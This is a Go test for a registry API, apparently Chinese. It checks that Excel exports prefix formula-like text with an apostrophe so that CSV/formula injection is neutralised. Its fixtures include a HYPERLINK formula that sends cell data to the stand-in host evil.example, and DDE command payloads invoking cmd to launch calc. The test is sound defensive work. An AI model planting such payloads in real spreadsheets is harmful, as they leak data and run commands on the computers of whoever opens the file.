package api_test

import (
	"bytes"
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// TestExportEscapesFormulaText round-trips names that a spreadsheet would
// take for formulas (OWASP "CSV injection": a cell starting with =, +, -,
// @, tab or CR) through the API and an export: each text cell starting so
// is written with a leading apostrophe, as text, never as a formula;
// numbers stay numbers.
func TestExportEscapesFormulaText(t *testing.T) {
	h := setup(t)
	f := newRegistryFixture(h)
	evil := map[string]string{
		"name":         `=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
		"legal_person": "@SUM(1+1)*cmd|' /C calc'!A0",
		"contact_name": "+1+1",
		"address":      "-2+3+cmd|' /C calc'!A0",
	}
	body := map[string]any{"credit_code": testCreditCode(900), "type": "builder", "town_code": f.TownA}
	for k, v := range evil {
		body[k] = v
	}
	id := h.must(201, "POST", v1("/enterprises"), body).num("id")
	got := h.must(200, "GET", v1("/enterprises/%d", id), nil)
	require.Equal(t, evil["name"], got.Body["name"], "the API keeps the name as entered")
	worker := h.mkWorker("=1+2", testIDNumber("330102", "19800101", 77))
	inner := h.mkWorker("张=三", testIDNumber("330102", "19800101", 78)) // not at the start: harmless

	d := h.download(v1("/exports/enterprises.xlsx?q=%s", "HYPERLINK"))
	require.Equal(t, 200, d.Status, string(d.Body))
	x, err := excelize.OpenReader(bytes.NewReader(d.Body))
	require.NoError(t, err)
	defer x.Close()
	sheet := x.GetSheetList()[0]
	rows, err := x.GetRows(sheet)
	require.NoError(t, err)
	require.Len(t, rows, 2)
	header := rows[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return 0
	}
	for key, header := range map[string]string{"name": "企业名称", "legal_person": "法定代表人", "contact_name": "联系人", "address": "地址"} {
		i := col(header)
		require.Equal(t, "'"+evil[key], rows[1][i], "%s is escaped", key)
		ref, err := excelize.CoordinatesToCellName(i+1, 2)
		require.NoError(t, err)
		formula, err := x.GetCellFormula(sheet, ref)
		require.NoError(t, err)
		require.Empty(t, formula, "%s is no formula", key)
		typ, err := x.GetCellType(sheet, ref)
		require.NoError(t, err)
		require.NotEqual(t, excelize.CellTypeFormula, typ)
	}
	// the id stays a number cell
	typ, err := x.GetCellType(sheet, "A2")
	require.NoError(t, err)
	require.Contains(t, []excelize.CellType{excelize.CellTypeUnset, excelize.CellTypeNumber}, typ, "no t attribute: a number")

	d = h.download(v1("/exports/workers.xlsx"))
	require.Equal(t, 200, d.Status, string(d.Body))
	_, rows = sheetRows(t, d.Body)
	names := map[string]string{}
	for _, r := range rows[1:] {
		names[r[0]] = r[1]
	}
	require.Equal(t, "'=1+2", names[fmt.Sprint(worker)])
	require.Equal(t, "张=三", names[fmt.Sprint(inner)], "only a leading character is a trigger")
	require.Equal(t, "张三", names[fmt.Sprint(f.WorkerA)], "ordinary names are untouched")
}
